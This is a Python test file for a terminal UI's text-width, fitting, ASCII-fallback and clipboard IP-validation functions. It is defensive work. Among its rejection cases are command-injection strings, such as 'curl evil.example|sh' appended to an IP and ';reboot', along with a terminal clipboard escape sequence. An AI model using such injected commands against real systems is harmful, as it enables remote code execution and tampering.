"""Cell widths, fitting, ASCII fallbacks and the clipboard's IP check (no terminal needed)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import hostile
from kalipso import text
from kalipso.clipboard import copyable_ip
from kalipso.text import ascii_fallback, cell_width, fit


@pytest.mark.parametrize("value,width", [
    ("abc", 3),
    ("", 0),
    ("主机名", 6),                      # wide CJK: 2 cells each
    ("a\u200bb", 2),                    # zero-width space
    ("a\u200db", 2),                    # zero-width joiner
    ("\u2764\ufe0f", 1),                # VS16 is dropped (terminals disagree): the text heart, 1 cell
    ("e\u0301", 1),                     # combining acute accent
    # ZWJ sequences are drawn as their emoji side by side: curses adds up code points, tmux
    # joins them, so a joined glyph would shift every border after it
    ("👩\u200d💻", 4),
    ("👨\u200d👩\u200d👧\u200d👦", 8),
    ("🏳\ufe0f\u200d🌈", 3),              # white flag (1) and rainbow (2)
    ("👍🏽", 2),                          # skin-tone modifier dropped
    ("🇨🇿", 2),                           # a flag's regional indicators: their letters, CZ
    ("\x1b[31mred\x1b[0m", 3),          # an escape sequence is never drawn
    ("a\x00b\x07c\x9bd", 3),            # controls count 0; 8-bit CSI "\x9bd" is a whole sequence
    ("x\x9b31my\x9d0;T\x07z", 3),       # 8-bit CSI and OSC leave no parameters or payload
    ("x\u202ey", 2),                    # bidi override: 0
    ("\t", 1),                          # sanitize draws a tab as one space
])
def test_cell_width(value, width):
    assert cell_width(value) == width


@pytest.mark.parametrize("value,width,expected", [
    ("abcdef", 3, "abc"),
    ("主机名", 3, "主"),                 # a wide character that does not fit is left out
    ("主机名", 4, "主机"),
    ("ae\u0301b", 2, "ae\u0301"),       # the accent stays with its e
    ("e\u0301\u0302x", 1, "e\u0301\u0302"),
    ("👩\u200d💻x", 1, ""),              # no half of a wide glyph
    ("👩\u200d💻x", 2, "👩"),              # the joiner is gone: two glyphs
    ("👩\u200d💻x", 5, "👩💻x"),
    ("\x1b]52;c;QUJD\x07ok", 5, "ok"),  # fit output is always safe to draw
    ("abc", 0, ""),
    ("abc", -4, ""),
])
def test_fit(value, width, expected):
    assert fit(value, width) == expected


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60) | st.sampled_from(list(hostile.CORPUS.values())), st.integers(0, 50))
def test_fit_never_exceeds_width_and_is_a_prefix(value, width):
    cut = fit(value, width)
    assert cell_width(cut) <= width
    assert not hostile.control_bytes(cut)
    assert text.sanitize(value, len(value) + 1).startswith(cut)
    if cell_width(value) <= width:
        assert cut == text.sanitize(value, len(value) + 1)


def test_graphemes_keep_marks_with_their_base():
    assert fit("ae\u0301b", 2) == "ae\u0301"
    assert fit("👩\u200d💻x", 4) == "👩💻"
    assert cell_width("主机\u200b") == 4


def test_char_width_agrees_with_the_c_library():
    """tmux and ncurses size characters with the C library's wcwidth: every code point it
    knows (C.UTF-8) gets the same width here, or borders drawn after it would shift."""
    import ctypes

    libc = ctypes.CDLL(None)
    libc.wcwidth.argtypes = [ctypes.c_wchar]
    libc.setlocale.restype = ctypes.c_char_p
    previous = libc.setlocale(0, None)  # LC_CTYPE
    if not libc.setlocale(0, b"C.UTF-8"):
        pytest.skip("the C library has no C.UTF-8 locale to compare with")
    try:
        wrong = []
        for cp in range(0xA0, 0x30000):
            if 0xD800 <= cp <= 0xDFFF:
                continue
            expected = libc.wcwidth(chr(cp))
            if expected >= 0 and text.char_width(chr(cp)) != expected:
                wrong.append((hex(cp), expected, text.char_width(chr(cp))))
    finally:
        libc.setlocale(0, previous)
    assert len(wrong) <= 10, wrong[:20]  # a newer C library may know a few newer characters


def test_ascii_fallback_maps_every_ui_glyph():
    assert ascii_fallback("█▏▌▇") == "####"
    assert ascii_fallback("↑↓●▶…×–") == "^v*>...x-"
    assert ascii_fallback("┌─┐│└┘├┤┼") == "+-+|+++++"
    assert ascii_fallback("⠀⠁⠃⠇⡇⣿") == " ...##"      # braille by its number of dots
    assert ascii_fallback("主👩\u200d💻e\u0301") == "??e"  # one ? per glyph; a letter keeps its base
    assert ascii_fallback("café ①") == "cafe 1"
    assert ascii_fallback("plain ascii") == "plain ascii"


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_ascii_fallback_is_ascii(value):
    assert ascii_fallback(value).isascii()


@pytest.mark.parametrize("value,ip", [
    ("1.2.3.4", "1.2.3.4"),
    ("  10.0.2.15\n", "10.0.2.15"),
    ("2001:DB8::1", "2001:DB8::1"),
    ("::ffff:1.2.3.4", "::ffff:1.2.3.4"),
])
def test_copyable_ip_accepts_addresses(value, ip):
    assert copyable_ip(value) == (ip, "")


@pytest.mark.parametrize("value", [
    "1.2.3.4; curl evil.example|sh\n",
    "1.2.3.4\ncurl evil.example|sh",
    "1.2.3.4 evil",
    "fe80::1%eth0;reboot",
    "01.2.3.4",
    "example.com",
    hostile.OSC52,
    "",
    "   ",
    None,
])
def test_copyable_ip_refuses_anything_else(value):
    ip, reason = copyable_ip(value)
    assert ip is None
    assert "nothing copied" in reason
    assert not hostile.control_bytes(reason) and "\n" not in reason
    assert len(reason) < 100
